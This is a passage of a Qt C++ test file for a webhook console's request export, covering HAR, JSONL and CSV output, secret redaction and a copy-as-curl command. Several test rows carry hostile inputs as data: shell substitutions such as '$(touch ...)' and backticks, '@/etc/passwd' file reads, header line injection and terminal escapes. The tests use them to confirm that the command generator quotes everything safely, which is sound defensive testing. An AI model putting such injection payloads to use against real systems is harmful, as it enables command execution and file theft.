    QTest::newRow("cancelled at the start") << int(RequestExport::Format::Har) << 0;
    QTest::newRow("cancelled after a page") << int(RequestExport::Format::Jsonl) << 1;
}

void tst_Export::pagesProgressAndCancel()
{
    QFETCH(int, format);
    QFETCH(int, cancelAfter);
    QList<LoggedRequest> more;
    for (int i = 0; i < 2500; ++i) {
        LoggedRequest entry = baseEntry(1'700'000'100'000'000 + i);
        entry.body = "{\"n\":" + QByteArray::number(i) + '}';
        entry.bodySize = entry.body.size();
        more.append(entry);
    }
    VERIFY_OK(m_store->log().append(more));
    const qint64 total = m_rows.size() + more.size();

    QList<QPair<qint64, qint64>> calls;
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const Status status = RequestExport::write(
        *m_store, RequestExport::Format(format), {}, {}, buffer, [&](qint64 done, qint64 all) {
            calls.append({ done, all });
            return cancelAfter < 0 || calls.size() <= cancelAfter;
        });
    if (cancelAfter >= 0) {
        QVERIFY(!status.ok());
        QCOMPARE(status.error(), u"cancelled"_s);
        QCOMPARE(calls.size(), cancelAfter + 1);
        QVERIFY(buffer.size() < 2 * 1024 * 1024);
        return;
    }
    VERIFY_OK(status);
    // Called at the start, after each page of 1,000 and at the end, always with the total.
    QCOMPARE(calls.first(), qMakePair(qint64(0), total));
    QCOMPARE(calls.last(), qMakePair(total, total));
    QVERIFY(calls.size() >= 4);
    for (qsizetype i = 1; i < calls.size(); ++i) {
        QVERIFY(calls.at(i).first >= calls.at(i - 1).first);
        QCOMPARE(calls.at(i).second, total);
    }
    // Every row once, newest first.
    QList<qint64> ids;
    if (RequestExport::Format(format) == RequestExport::Format::Har) {
        for (const QJsonValue &entry :
            QJsonDocument::fromJson(buffer.data()).object()[u"log"_s][u"entries"_s].toArray())
            ids.append(entry[u"_requestId"_s].toInteger());
    } else if (RequestExport::Format(format) == RequestExport::Format::Jsonl) {
        for (const QByteArray &line : buffer.data().trimmed().split('\n'))
            ids.append(QJsonDocument::fromJson(line).object().value(u"id"_s).toInteger());
    } else {
        const std::optional<QList<QStringList>> records = readCsv(buffer.data());
        QVERIFY(records);
        for (qsizetype i = 1; i < records->size(); ++i)
            ids.append(records->at(i).first().toLongLong());
    }
    QCOMPARE(ids.size(), total);
    for (qsizetype i = 1; i < ids.size(); ++i)
        QVERIFY(ids.at(i) < ids.at(i - 1));
}

void tst_Export::exportsExactlyTheIds()
{
    const QList<qint64> ids { m_rows.at(3).id, m_rows.at(0).id, m_rows.at(4).id + 1000 /* gone */ };
    const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl, {}, ids);
    QList<qint64> exported;
    for (const QByteArray &line : jsonl.trimmed().split('\n'))
        exported.append(QJsonDocument::fromJson(line).object().value(u"id"_s).toInteger());
    QCOMPARE(exported, (QList<qint64> { m_rows.at(3).id, m_rows.at(0).id }));
}

void tst_Export::exportFollowsTheFilter()
{
    RequestFilter filter;
    filter.outcome = RequestFilter::Outcome::Rejected;
    const std::optional<QList<QStringList>> records
        = readCsv(exportAll(RequestExport::Format::Csv, filter));
    QVERIFY(records);
    QStringList reasons;
    for (qsizetype i = 1; i < records->size(); ++i)
        reasons.append(records->at(i).at(7));
    QCOMPARE(reasons, (QStringList { u"unknown_route"_s, u"unsupported_media_type"_s }));

    filter = {};
    filter.search = u"café"_s;
    const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl, filter);
    QCOMPARE(jsonl.count('\n'), 1);
    QCOMPARE(QJsonDocument::fromJson(jsonl).object().value(u"id"_s).toInteger(), m_rows.at(3).id);
}

void tst_Export::curlCommandText_data()
{
    QTest::addColumn<QString>("key");
    QTest::addColumn<QStringList>("contains");
    QTest::addColumn<QStringList>("lacks");

    const QString path = u"/v1/data/webhook/"_s + WebhookA;
    QTest::newRow("no key: placeholders")
        << QString()
        << QStringList { u"curl -X POST 'http://127.0.0.1:9000"_s + path
                   + u"?api-key=<API_KEY>&a=1'"_s,
               u"-H 'X-Api-Key: <API_KEY>'"_s, u"-H 'Authorization: Bearer ***'"_s,
               u"# Authorization and Cookie values are not logged"_s, u"-H 'X-Empty;'"_s,
               u"--data-raw $'{\"it\\'s\":\"a\\nb\"}'"_s, u"-H 'Content-Type: application/json'"_s }
        << QStringList { u"Host:"_s, u"Content-Length"_s, u"Connection"_s };
    QTest::newRow("with the key") << u"htk_secret-Key_1"_s
                                  << QStringList { u"?api-key=htk_secret-Key_1&a=1'"_s,
                                         u"-H 'X-Api-Key: htk_secret-Key_1'"_s,
                                         u"-H 'Authorization: Bearer ***'"_s }
                                  << QStringList { u"<API_KEY>"_s };
}

void tst_Export::curlCommandText()
{
    QFETCH(QString, key);
    QFETCH(QStringList, contains);
    QFETCH(QStringList, lacks);
    LoggedRequest request = baseEntry(1'700'000'000'000'000);
    request.query = "api-key=***&a=1"_ba;
    request.headers = { { "Host"_ba, "127.0.0.1:8484"_ba },
        { "Content-Type"_ba, "application/json"_ba }, { "Content-Length"_ba, "17"_ba },
        { "Connection"_ba, "keep-alive"_ba }, { "X-Api-Key"_ba, "***"_ba },
        { "Authorization"_ba, "Bearer ***"_ba }, { "X-Empty"_ba, ""_ba } };
    request.body = "{\"it's\":\"a\nb\"}"_ba;
    const QString command = CurlCommand::fromRequest(request, u"http://127.0.0.1:9000/"_s, key);
    for (const QString &part : contains)
        QVERIFY2(command.contains(part), qPrintable(u"missing «%1» in:\n%2"_s.arg(part, command)));
    for (const QString &part : lacks)
        QVERIFY2(
            !command.contains(part), qPrintable(u"unexpected «%1» in:\n%2"_s.arg(part, command)));
}

void tst_Export::secretsStayRedacted()
{
    ConsoleFixture fixture;
    QVERIFY2(fixture.start(), qPrintable(fixture.error()));
    Webhook webhook;
    webhook.name = u"secrets"_s;
    const Result<Webhook> added = fixture.store()->config().addWebhook(webhook);
    VERIFY_OK(added);
    const Result<NewApiKey> key = fixture.store()->config().addKey(u"k"_s);
    VERIFY_OK(key);
    fixture.receiverFollows();
    const QString secret = key->secret;
    const QByteArray bearer = "Bearer bearer-Secret-0123456789";
    const QByteArray cookie = "session=cookie-Secret-0123456789";
    const QByteArray wrongKey = "htk_wrong-Secret-0123456789";
    const QString url = fixture.endpoint(added->id);
    const QByteArray json = "application/json";
    // Keys in the query and in X-Api-Key, valid and not, with Authorization and Cookie.
    QCOMPARE(
        sendRequest(url + u"?api-key="_s + secret, "POST",
            { { "Content-Type", json }, { "Authorization", bearer }, { "Cookie", cookie } }, "{}")
            .status,
        200);
    QCOMPARE(sendRequest(url, "POST",
                 { { "Content-Type", json }, { "X-Api-Key", secret.toLatin1() },
                     { "Proxy-Authorization", bearer } },
                 "{}")
                 .status,
        200);
    QCOMPARE(sendRequest(url + u"?API-KEY="_s + QString::fromLatin1(wrongKey), "POST",
                 { { "Content-Type", json } }, "{}")
                 .status,
        401);
    QCOMPARE(*fixture.store()->queries().countRequests(RequestFilter()), qint64(3));

    QByteArray everything;
    for (const RequestExport::Format format :
        { RequestExport::Format::Har, RequestExport::Format::Jsonl, RequestExport::Format::Csv }) {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        VERIFY_OK(RequestExport::write(*fixture.store(), format, {}, {}, buffer));
        everything += buffer.data();
    }
    const Result<QList<LoggedRequest>> logged = fixture.store()->queries().requests({});
    VERIFY_OK(logged);
    for (const LoggedRequest &request : *logged)
        everything += CurlCommand::fromRequest(request, u"http://127.0.0.1:1"_s).toUtf8();
    QVERIFY(everything.contains("***"));
    for (const QByteArray &leak : { secret.toLatin1(), bearer.mid(7), cookie.mid(8), wrongKey })
        QVERIFY2(!everything.contains(leak), leak.constData());
    // With the key handed over, the command carries that key and still no other secret.
    const QString withKey
        = CurlCommand::fromRequest(logged->last(), u"http://127.0.0.1:1"_s, secret);
    QVERIFY(withKey.contains(secret));
    QVERIFY(!withKey.toUtf8().contains(bearer.mid(7)) && !withKey.toUtf8().contains(cookie.mid(8)));
}

void tst_Export::curlReplaysTheRequest_data()
{
    QTest::addColumn<QByteArray>("method");
    QTest::addColumn<QByteArray>("query"); // {KEY} stands for the API key
    QTest::addColumn<QByteArray>("headers"); // raw header lines, {KEY} likewise
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<int>("status");

    QTest::newRow("JSON, key in the query")
        << "POST"_ba
        << "api-key={KEY}&source=test&x=a%20b"_ba
        << "Content-Type: application/json\r\nX-Event: order.created\r\nUser-Agent: sender/1.0\r\n"_ba
        << R"({"order":"A-77","note":"it's \"quoted\"\nnext line"})"_ba << 200;
    QTest::newRow("key in X-Api-Key, PUT, unicode")
        << "PUT"_ba << QByteArray()
        << "X-Api-Key: {KEY}\r\nContent-Type: application/json; charset=utf-8\r\n"_ba
        << "{\"city\":\"Z\xc3\xbcrich \xe2\x82\xac\",\"tab\":\"a\\tb\"}"_ba << 200;
    QTest::newRow("form body")
        << "POST"_ba
        << "api-key={KEY}"_ba
        << "Content-Type: application/x-www-form-urlencoded\r\nX-Empty: \r\n"_ba
        << "a=1&b=%C3%A9+x&c='\\$HOME`"_ba << 200;
    QTest::newRow("binary body, rejected")
        << "POST"_ba
        << "api-key={KEY}"_ba
        << "Content-Type: application/octet-stream\r\n"_ba
        << QByteArray::fromHex("0001ff27255c0a0d80") + "%s\\n'$(x)"_ba << 415;
    QTest::newRow("GET, no body") << "GET"_ba
                                  << "api-key={KEY}&page=2"_ba
                                  << "Accept: application/json\r\n"_ba << QByteArray() << 200;
    QTest::newRow("XML, no key: rejected twice alike")
        << "POST"_ba << QByteArray() << "Content-Type: application/xml\r\n"_ba
        << "<a b=\"1\">&amp;</a>"_ba << 401;
    // What a sender may put in a body or a header to act on whoever replays it. {MARK} stands
    // for a file that must never be created.
    const QByteArray text = "Content-Type: text/plain\r\n"_ba;
    QTest::newRow("body naming a local file")
        << "POST"_ba
        << "api-key={KEY}"_ba << text << "@/etc/passwd"_ba << 415;
    QTest::newRow("body naming standard input") << "POST"_ba
                                                << "api-key={KEY}"_ba << text << "@-"_ba << 415;
    QTest::newRow("body with quotes and substitutions")
        << "POST"_ba
        << "api-key={KEY}"_ba << text
        << "it's $(touch {MARK}) `touch {MARK}` ${HOME} \\ \"$(touch {MARK})\" '"_ba << 415;
    QTest::newRow("body with control characters")
        << "POST"_ba
        << "api-key={KEY}"_ba << text
        << "a\x1b[2J\x03\r\n$(touch {MARK})\r\x04\x1a\x7f'\n;touch {MARK}\n"_ba << 415;
    QTest::newRow("body with NUL and bytes from 0x80")
        << "POST"_ba
        << "api-key={KEY}"_ba << text << "\0$(touch {MARK})\x80\xff\xc2\x9b'\x1b"_ba << 415;
    QTest::newRow("body in UTF-8 with C1 and bidi controls")
        << "POST"_ba
        << "api-key={KEY}"_ba << text << "Z\xc3\xbcrich \xe2\x80\xae$(touch {MARK})\xc2\x9b'"_ba
        << 415;
    QTest::newRow("headers with quotes, substitutions, tab and bytes from 0x80")
        << "POST"_ba
        << "api-key={KEY}"_ba
        << "Content-Type: application/json\r\nX-Note: it's $(touch {MARK}) `touch {MARK}`\r\n"
           "X-Tab: a\tb\r\nX-High: caf\xc3\xa9 \xff\xfe \xc2\x9b"
           "2J\r\n"_ba
        << "{}"_ba << 200;
}

void tst_Export::curlReplaysTheRequest()
{
    QFETCH(QByteArray, method);
    QFETCH(QByteArray, query);
    QFETCH(QByteArray, headers);
    QFETCH(QByteArray, body);
    QFETCH(int, status);

    ConsoleFixture fixture;
    QVERIFY2(fixture.start(), qPrintable(fixture.error()));
    Webhook webhook;
    webhook.name = u"replay"_s;
    webhook.methods = { u"POST"_s, u"PUT"_s, u"GET"_s };
    const Result<Webhook> added = fixture.store()->config().addWebhook(webhook);
    VERIFY_OK(added);
    const Result<NewApiKey> key = fixture.store()->config().addKey(u"k"_s);
    VERIFY_OK(key);
    fixture.receiverFollows();
    query.replace("{KEY}", key->secret.toLatin1());
    headers.replace("{KEY}", key->secret.toLatin1());
    QTemporaryDir scratch;
    QVERIFY(scratch.isValid());
    const QByteArray mark = QFile::encodeName(scratch.filePath(u"replayed-and-ran"_s));
    headers.replace("{MARK}", mark);
    body.replace("{MARK}", mark);

    // The original, byte for byte as a sender wrote it.
    const QByteArray target
        = "/v1/data/webhook/" + added->id.toLatin1() + (query.isEmpty() ? ""_ba : '?' + query);
    RawHttpClient client(fixture.port());
    QVERIFY(client.connectToServer());
    QVERIFY(client.send(httpRequest(method, target, headers, body)));
    const std::optional<HttpAnswer> answer = client.readAnswer();
    QVERIFY(answer);
    QCOMPARE(answer->status, status);
    const Result<std::optional<LoggedRequest>> original
        = fixture.store()->queries().request(answer->requestId());
    VERIFY_OK(original);
    QVERIFY(original->has_value());

    // The copied command, key filled in, run by a POSIX shell.
    const QString command = CurlCommand::fromRequest(
        **original, u"http://127.0.0.1:%1"_s.arg(fixture.port()), key->secret);
    // bash: words with bytes that are not printable ASCII use its $'...' quoting.
    QProcess shell;
    shell.setWorkingDirectory(scratch.path());
    shell.start(u"/bin/bash"_s, { u"-c"_s, command + u" --silent --show-error"_s });
    QVERIFY(shell.waitForStarted());
    QTRY_VERIFY_WITH_TIMEOUT(shell.state() == QProcess::NotRunning, 30000);
    const QByteArray output = shell.readAllStandardOutput();
    QVERIFY2(shell.exitCode() == 0,
        qPrintable(command + u"\n"_s + QString::fromUtf8(shell.readAllStandardError())));
    const qint64 replayId
        = QJsonDocument::fromJson(output).object().value(u"requestId"_s).toInteger();
    QVERIFY2(replayId > (*original)->id, output.constData());
    const Result<std::optional<LoggedRequest>> replay
        = fixture.store()->queries().request(replayId);
    VERIFY_OK(replay);
    QVERIFY(replay->has_value());

    const LoggedRequest &a = **original;
    const LoggedRequest &b = **replay;
    QCOMPARE(b.method, a.method);
    QCOMPARE(b.path, a.path);
    QCOMPARE(b.query, a.query);
    QCOMPARE(b.body, a.body);
    QCOMPARE(b.bodySize, a.bodySize);
    QCOMPARE(b.contentType, a.contentType);
    QCOMPARE(b.status, a.status);
    QCOMPARE(b.reason, a.reason);
    QCOMPARE(b.apiKeyId, a.apiKeyId);
    // Every header the sender set is there again with its value, byte for byte (curl adds only
    // its own few).
    for (const auto &[name, value] : headersThatMatter(a.headers)) {
        const auto same = std::find_if(b.headers.begin(), b.headers.end(),
            [&](const auto &h) { return h.first.compare(name, Qt::CaseInsensitive) == 0; });
        QVERIFY2(same != b.headers.end(), name.constData());
        QCOMPARE(same->second, value);
    }
    // Nothing the sender wrote ran, and no file was read.
    QVERIFY(!QFile::exists(QFile::decodeName(mark)));
    QVERIFY(!b.body.contains("root:"));
}

void tst_Export::curlQuotesEveryByte_data()
{
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<bool>("byStandardInput");
    QTest::newRow("a local file") << "@/etc/passwd"_ba << false;
    QTest::newRow("quotes and substitutions")
        << "it's $(touch {MARK}) `touch {MARK}` ${HOME} \\ '\"$(touch {MARK})\"'"_ba << false;
    QTest::newRow("controls that act on a terminal")
        << "a\x1b[2J\x03\r\n;touch {MARK}\n\x04\x15\x1a\x7f\x1b]0;t\x07"_ba << false;
    QTest::newRow("UTF-8 with C1 and bidi controls") << "Z\xc3\xbcrich \xe2\x80\xae\xc2\x9b"
                                                        "2J '$(touch {MARK})'"_ba
                                                     << false;
    QTest::newRow("a hex digit after an escape") << "\x1b"
                                                    "abc\x7f"
                                                    "0"_ba
                                                 << false;
    QTest::newRow("NUL") << "a\0b$(touch {MARK})'\n"_ba << true;
    QTest::newRow("not UTF-8") << "-\xff\xfe\x80'%s\\n$(touch {MARK})"_ba << true;
}

// The command as the shell reads it: a curl that writes out its arguments and what it got on
// standard input stands in for the real one, so every header can be checked, those that HTTP
// could not carry (ESC, CR, LF) included.
void tst_Export::curlQuotesEveryByte()
{
    QFETCH(QByteArray, body);
    QFETCH(bool, byStandardInput);
    QTemporaryDir scratch;
    QVERIFY(scratch.isValid());
    const QByteArray mark = QFile::encodeName(scratch.filePath(u"ran"_s));
    body.replace("{MARK}", mark);

    LoggedRequest request = baseEntry(1'700'000'000'000'000);
    request.method = "POST"_ba;
    request.path = "/v1/data/webhook/" + WebhookA.toLatin1() + "/$(touch " + mark + ")";
    request.query = "api-key=***&q='$(touch " + mark + ")'&r=`id`"_ba;
    request.headers = { { "X-Esc"_ba, "\x1b[2J\x1b]0;title\x07$(touch " + mark + ")" },
        { "X-Lines"_ba, "a\r\nX-Injected: 1\nb\r"_ba }, { "X-Ctrl"_ba, "\x03\x04\x1a\x15\x7f"_ba },
        { "X-High"_ba,
            "\xc2\x9b"
            "2J \xe2\x80\xae \xff\xfe"_ba },
        { "X-Quote"_ba, "it's `touch " + mark + "` $HOME \\"_ba }, { "X-Empty"_ba, ""_ba } };
    request.body = body;
    const QString command = CurlCommand::fromRequest(request, u"http://127.0.0.1:9/"_s);
    // Plain printable ASCII and line breaks: nothing in it acts on a terminal it is pasted into.
    const QByteArray bytes = command.toUtf8();
    QVERIFY2(std::all_of(bytes.begin(), bytes.end(),
                 [](char c) { return c == '\n' || (c >= 0x20 && c < 0x7f); }),
        bytes.toHex().constData());

    const QString fakeCurl = u"curl() { printf '%s\\0' \"$@\"; printf '<stdin>\\0'; cat; }\n"_s;
    QProcess shell;
    shell.setWorkingDirectory(scratch.path());
    shell.start(u"/bin/bash"_s, { u"-c"_s, fakeCurl + command });
    QVERIFY(shell.waitForStarted());
    shell.closeWriteChannel();
    QVERIFY(shell.waitForFinished(30000));
    QVERIFY2(shell.exitCode() == 0, shell.readAllStandardError().constData());
    const QByteArray output = shell.readAllStandardOutput();
    const qsizetype stdinAt = output.indexOf("<stdin>\0"_ba);
    QVERIFY(stdinAt >= 0);
    QList<QByteArray> arguments = output.left(stdinAt).split('\0');
    QCOMPARE(arguments.takeLast(), QByteArray()); // after the last NUL
    const QByteArray standardInput = output.mid(stdinAt + 8);

    QList<QByteArray> expected { "-X"_ba, "POST"_ba,
        "http://127.0.0.1:9" + request.path + "?api-key=<API_KEY>&q='$(touch " + mark
            + ")'&r=`id`" };
    for (const auto &[name, value] : request.headers)
        expected << "-H"_ba << (value.isEmpty() ? name + ';' : name + ": " + value);
    expected << (byStandardInput ? "--data-binary"_ba : "--data-raw"_ba)
             << (byStandardInput ? "@-"_ba : body);
    QCOMPARE(arguments, expected);
    QCOMPARE(standardInput, byStandardInput ? body : QByteArray());
    QVERIFY(!QFile::exists(QFile::decodeName(mark)));

    // A shell without $'...' (dash) reads those words as plain text: wrong bytes, nothing runs.
    QProcess dash;
    dash.setWorkingDirectory(scratch.path());
    dash.start(u"/bin/sh"_s, { u"-c"_s, fakeCurl + command });
    QVERIFY(dash.waitForStarted());
    dash.closeWriteChannel();
    QVERIFY(dash.waitForFinished(30000));
    QVERIFY(!QFile::exists(QFile::decodeName(mark)));
}

void tst_Export::savedWholeAndPrivateOrNotAtAll()
{
    const QString path = m_dir->filePath(QStringLiteral("saved.jsonl"));
    const auto writing = [](const QByteArray &bytes, const QString &error) {
        return [bytes, error](QIODevice &file) {
            file.write(bytes);
            return error.isEmpty() ? Status() : Status::failure(error);
        };
    };
    QVERIFY(SaveToFile::save(path, writing("first\n", {})));
    QFile saved(path);
    QCOMPARE(saved.permissions() & ~(QFile::ReadUser | QFile::WriteUser),
        QFile::ReadOwner | QFile::WriteOwner);
    QVERIFY(saved.open(QIODevice::ReadOnly));
    QCOMPARE(saved.readAll(), QByteArray("first\n"));
    saved.close();

    // The writer failing (or cancelled): its error, and the file there stays as it was.
    const Status failed
        = SaveToFile::save(path, writing("half", QStringLiteral("the store broke")));
    QCOMPARE(failed.error(), QStringLiteral("the store broke"));
    QVERIFY(saved.open(QIODevice::ReadOnly));
    QCOMPARE(saved.readAll(), QByteArray("first\n"));
    saved.close();
    QCOMPARE(QDir(m_dir->path()).entryList(QDir::Files).filter(QStringLiteral("saved")).size(), 1);

    // A file that cannot be opened is named in the error.
    const QString nowhere = m_dir->filePath(QStringLiteral("missing/saved.jsonl"));
    const Status unopened = SaveToFile::save(nowhere, writing("x", {}));
    QVERIFY(!unopened);
    QVERIFY2(unopened.error().startsWith(nowhere + QStringLiteral(" cannot be written: ")),
        qPrintable(unopened.error()));
}

QTEST_GUILESS_MAIN(tst_Export)
#include "tst_export.moc"
